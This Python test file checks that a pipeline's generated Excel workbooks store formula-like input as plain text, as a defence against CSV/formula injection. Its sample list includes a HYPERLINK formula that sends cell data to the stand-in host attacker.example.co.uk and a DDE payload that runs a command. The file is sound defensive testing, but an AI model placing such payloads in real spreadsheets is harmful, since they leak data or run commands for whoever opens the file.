"""No workbook lcspr writes holds a formula: text that starts like one stays visible text (OWASP CSV injection)."""
from __future__ import annotations

import datetime as dt
import io

import openpyxl
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl.cell import WriteOnlyCell

from pipeline.cli import main
from pipeline.tools.office import FORMULA_STARTS, as_text, xlsx_bytes
from tests.conftest import CHRONOLOGY_HEADER, write_csv

ARMED = ['=HYPERLINK("https://attacker.example.co.uk/?d="&B2, "Click for the full record")',
         "=1+2", "+44 7700 900123", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]


def formula_cells(workbook) -> list[str]:
    return [f"{sheet.title}!{cell.coordinate}" for sheet in workbook.worksheets
            for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]


def test_integrated_chronology_keeps_formula_text_as_text(chronology_case, tmp_path):
    rows = [[f"0{n + 1}/10/2023", "10:00", armed, armed, armed, "PC", "", armed] for n, armed in enumerate(ARMED)]
    (chronology_case / "chronologies" / "police.xlsx").unlink()
    write_csv(chronology_case / "chronologies" / "police.csv", [CHRONOLOGY_HEADER, *rows])
    assert main(["chronology", str(chronology_case), "--build-dir", str(tmp_path / "build")]) == 0
    workbook = openpyxl.load_workbook(tmp_path / "build" / "child-w" / "internal" / "integrated-chronology.xlsx")
    assert formula_cells(workbook) == []
    texts = [c for s in workbook.worksheets for row in s.iter_rows() for c in row if c.value in ARMED]
    assert {c.value for c in texts} == set(ARMED)           # kept, visibly, as the agency wrote it
    assert len(texts) >= 4 * len(ARMED) * 2                  # Integrated and the police sheet, four columns each
    assert all(c.data_type == "s" and c.quotePrefix for c in texts)   # and stays text when a reviewer edits it


def test_letters_packs_and_blank_template_hold_no_formula(letters_case, tmp_path):
    assert main(["letters", str(letters_case), "--build-dir", str(tmp_path / "build")]) == 0
    assert main(["template", "chronology", "--out", str(tmp_path / "blank")]) == 0
    books = [*(tmp_path / "build").rglob("*.xlsx"), *(tmp_path / "blank").rglob("*.xlsx")]
    assert len(books) >= 2
    for book in books:
        assert formula_cells(openpyxl.load_workbook(book)) == [], book


def _save(text: str, write_only: bool) -> openpyxl.Workbook:
    workbook = openpyxl.Workbook(write_only=write_only)
    if write_only:
        sheet = workbook.create_sheet("S")
        sheet.append([as_text(WriteOnlyCell(sheet, text))])
    else:
        workbook.active.append([text])
    data = xlsx_bytes(workbook, title="t", author="a", when=dt.date(2026, 1, 5))
    return openpyxl.load_workbook(io.BytesIO(data))


@settings(max_examples=60, deadline=None)
@given(st.sampled_from(FORMULA_STARTS + ("",)), st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=30),
       st.booleans())
def test_any_text_comes_back_as_the_same_text(start, rest, write_only):
    text = start + rest
    cell = _save(text, write_only).worksheets[0]["A1"]
    assert cell.data_type != "f"
    assert (cell.value or "").replace("\r", "").replace("\n", "") == text.replace("\r", "").replace("\n", "")


def test_a_writer_that_forgets_as_text_cannot_save_a_formula():
    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("S")
    sheet.append(["=1+2"])
    try:
        xlsx_bytes(workbook, title="t", author="a", when=dt.date(2026, 1, 5))
    except RuntimeError as error:
        assert "formula" in str(error)
    else:
        raise AssertionError("a formula cell was saved")
